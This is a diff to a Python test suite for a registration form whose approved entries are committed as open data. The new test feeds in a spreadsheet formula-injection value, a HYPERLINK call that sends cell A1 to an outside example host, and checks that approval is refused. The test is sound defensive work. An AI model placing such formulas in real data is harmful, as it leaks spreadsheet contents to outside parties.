@@ -44,7 +44,7 @@ def repository(tmp_path: Path, live_data: Path, settings: Any) -> Path:
     return repo
 
 
-def registered(client: Client, consent: bool) -> Submission:
+def registered(client: Client, consent: bool, **changed: str) -> Submission:
     path = "/fr/forms/association-registration/"
     answers = {
         "name_latin": "Association Amal",
@@ -58,6 +58,7 @@ def registered(client: Client, consent: bool) -> Submission:
         "contact_name": "Nadia Privée",
         "email": "nadia@private.example.org",
         **({"consent": "on"} if consent else {}),
+        **changed,
     }
     assert client.post(path, {**answers, **hidden(client, path)}).status_code == 303
     return Submission.objects.get()
@@ -88,6 +89,22 @@ def test_an_approved_registration_is_committed_with_its_public_fields(
     assert git(repository, "status", "--porcelain") == ""  # the working tree is untouched
     remote = Path(settings.FORMS_PUBLISH_REMOTE)
     assert git(remote, "rev-parse", branch) == git(repository, "rev-parse", branch)
+
+
+def test_a_text_validate_would_refuse_is_not_approved(
+    client: Client, repository: Path, settings: Any
+) -> None:
+    """An applicant's text that a spreadsheet opening the open data would run: approved, it
+    would be committed, and then stop every publication of the site at `site-builder
+    validate`. The reviewer is told why instead, and nothing is queued."""
+    settings.FORMS_MIN_FILL_SECONDS = 0
+    typed = '=HYPERLINK("https://example.org/?q="&A1, "Amal")'
+    submission = registered(client, True, description=typed)
+    page = step(signed_in("ministry"), submission, "approved", "Statuts vérifiés")
+    assert page.status_code == 200 and "runs as a formula" in page.content.decode()
+    assert not Publication.objects.exists()
+    submission.refresh_from_db()
+    assert submission.status != "approved"
 
 
 def test_the_remote_down_then_back(client: Client, repository: Path, settings: Any) -> None:
